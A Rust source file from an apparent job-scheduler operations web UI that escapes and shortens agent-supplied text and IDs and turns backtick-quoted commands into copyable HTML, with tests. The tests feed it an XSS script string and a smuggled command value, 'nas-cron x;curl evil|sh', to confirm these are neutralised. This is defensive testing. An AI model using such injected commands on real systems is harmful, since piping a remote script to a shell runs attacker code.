//! IDs, texts of agents, links, and texts with commands or times as HTML.

use chrono::{DateTime, Utc};
use nas_cron_base::shell::command_before_backtick;
use nas_cron_base::terminal::{printable, shortened};

use super::command::copyable;
use super::html::{Html, escaped};
use super::times::{read, when};

/// Maximum length of an ID in a table, in characters.
const ID: usize = 36;

/// An ID, shortened in the middle. Agents and portals choose IDs.
pub(in crate::http::ops) fn id(text: &str) -> Html {
    let text = printable(text);
    let count = text.chars().count();
    if count <= ID {
        return Html::built(format!("<code class=\"id\">{}</code>", escaped(&text)));
    }
    let (head, tail) = (ID / 2, ID / 2 - 1);
    let short: String = text.chars().take(head).chain(['…']).chain(text.chars().skip(count - tail)).collect();
    Html::built(format!("<code class=\"id\" title=\"{}\">{}</code>", escaped(&text), escaped(&short)))
}

/// The whole ID, which may wrap.
pub(in crate::http::ops) fn whole_id(text: &str) -> Html {
    Html::built(format!("<code class=\"id whole\">{}</code>", escaped(&printable(text))))
}

/// Maximum length of an agent's text, in characters.
const WORDS: usize = 160;

/// A text of an agent, such as the beginning of its error page: shortened, and marked as the agent's.
pub(in crate::http::ops) fn agents_words(text: &str) -> Html {
    let text = printable(text);
    let short = shortened(&text, WORDS);
    let title = if short == text { String::new() } else { format!(" title=\"{}\"", escaped(&text)) };
    Html::built(format!("<q class=\"theirs\"{title}>{}</q>", escaped(&short)))
}

/// A link.
pub(in crate::http::ops) fn link(href: &str, html: &Html) -> Html {
    Html::built(format!("<a href=\"{}\">{html}</a>", escaped(href)))
}

/// A plain text.
pub(in crate::http::ops) fn text(text: &str) -> Html {
    Html::built(escaped(&printable(text)))
}

/// A text of the service in which commands are between backticks: each becomes one that can be copied. Foreign text may only be
/// in the commands, quoted: anywhere else, it could contain a command of its own.
pub(in crate::http::ops) fn with_commands(text: &str) -> Html {
    with_backticks(text, copyable, code)
}

/// A text in which code is between backticks, and which may contain foreign text: nothing of it can be copied with a click.
pub(in crate::http::ops) fn with_code(text: &str) -> Html {
    with_backticks(text, code, code)
}

/// The same, with the instants that [`super::stored`] has put between backticks as times.
pub(in crate::http::ops) fn with_times(text: &str, now: DateTime<Utc>) -> Html {
    with_backticks(text, code, |text| read(text).map_or_else(|| code(text), |at| when(at, now)))
}

fn code(text: &str) -> Html {
    Html::built(format!("<code>{}</code>", escaped(text)))
}

/// Shows whole commands between backticks with `command`, and anything else between them with `other`. A backtick in an ID of a
/// command is part of it.
fn with_backticks(text: &str, command: impl Fn(&str) -> Html, other: impl Fn(&str) -> Html) -> Html {
    let text = printable(text);
    let (mut html, mut rest) = (String::new(), text.as_str());
    while let Some((before, after)) = rest.split_once('`') {
        html.push_str(&escaped(before));
        let found = command_before_backtick(after);
        rest = if let Some(end) = found.or_else(|| after.find('`')) {
            let inner = &after[..end];
            let shown = if found.is_some() { command(inner) } else { other(inner) };
            html.push_str(&shown.to_string());
            &after[end + 1..]
        } else {
            // Nothing ends it: it is a backtick like any other character.
            html.push('`');
            after
        };
    }
    Html::built(html + &escaped(rest))
}

#[cfg(test)]
mod tests {
    use super::*;

    const MARKUP: &str = "<script>alert('1')</script>&\"\u{202e}\x1b[2J";

    #[test]
    fn texts_of_agents_are_escaped_shortened_and_marked() {
        let long = format!("{MARKUP}{}", "é".repeat(300));
        for html in [agents_words(&long), id(&long), whole_id(&long), text(&long), with_commands(&long)] {
            assert!(!html.to_string().contains("<script"), "{html}");
            assert!(!html.to_string().contains('\x1b') && !html.to_string().contains('\u{202e}'), "{html}");
        }
        let words = agents_words(&long).to_string();
        let shown = words.split('>').nth(1).unwrap();
        assert!(words.starts_with("<q class=\"theirs\" title=") && shown.contains('…'), "{words}");
        assert_eq!(agents_words("busy").to_string(), "<q class=\"theirs\">busy</q>");
    }

    #[test]
    fn long_ids_keep_their_beginning_and_end() {
        let html = id(&format!("begin{}end", "-".repeat(200))).to_string();
        assert!(html.contains(">begin-") && html.contains("-end</code>") && html.contains('…'), "{html}");
        assert_eq!(id("inst-1").to_string(), "<code class=\"id\">inst-1</code>");
    }

    #[test]
    fn commands_in_a_text_can_be_copied() {
        let html = with_commands("org a<b is on hold; `nas-cron release --org 'a<b'` ends that").to_string();
        assert!(html.starts_with("org a&lt;b is on hold; <span class=\"command\">"), "{html}");
        assert!(
            html.contains("nas-cron release --org &#39;a&lt;b&#39;") && html.ends_with(" ends that"),
            "{html}"
        );
        let html = with_commands("`parked`, `nas-cron x;curl evil|sh`, `nas-cron jobs show 'a`b'`, a ` b")
            .to_string();
        assert_eq!(html.matches("data-copy").count(), 1, "{html}");
        assert!(html.contains("data-copy=\"nas-cron jobs show &#39;a`b&#39;\""), "{html}");
    }

    #[test]
    fn nothing_of_a_text_with_foreign_parts_can_be_copied() {
        let html = with_code("no agent `nas-cron agents disable x` is registered: `<b>`").to_string();
        assert!(
            html.contains("<code>nas-cron agents disable x</code>") && !html.contains("data-copy"),
            "{html}"
        );
        assert!(html.ends_with("<code>&lt;b&gt;</code>"), "{html}");
    }

    #[test]
    fn instant_in_a_stored_text_is_a_time_when_it_is_shown() {
        let at = DateTime::UNIX_EPOCH;
        let text = format!("it fires, due {}; `nas-cron jobs list`, `<b>`", super::super::stored(at));
        let html = with_times(&text, at + chrono::TimeDelta::seconds(5)).to_string();
        assert!(html.starts_with("it fires, due <time class=\"when\" datetime=\"1970-01-01T"), "{html}");
        assert!(
            html.contains(">5 s ago</span>") && html.contains("UTC</span></time>; <code>nas-cron"),
            "{html}"
        );
        assert!(html.ends_with("<code>&lt;b&gt;</code>") && !html.contains("data-copy"), "{html}");
    }
}
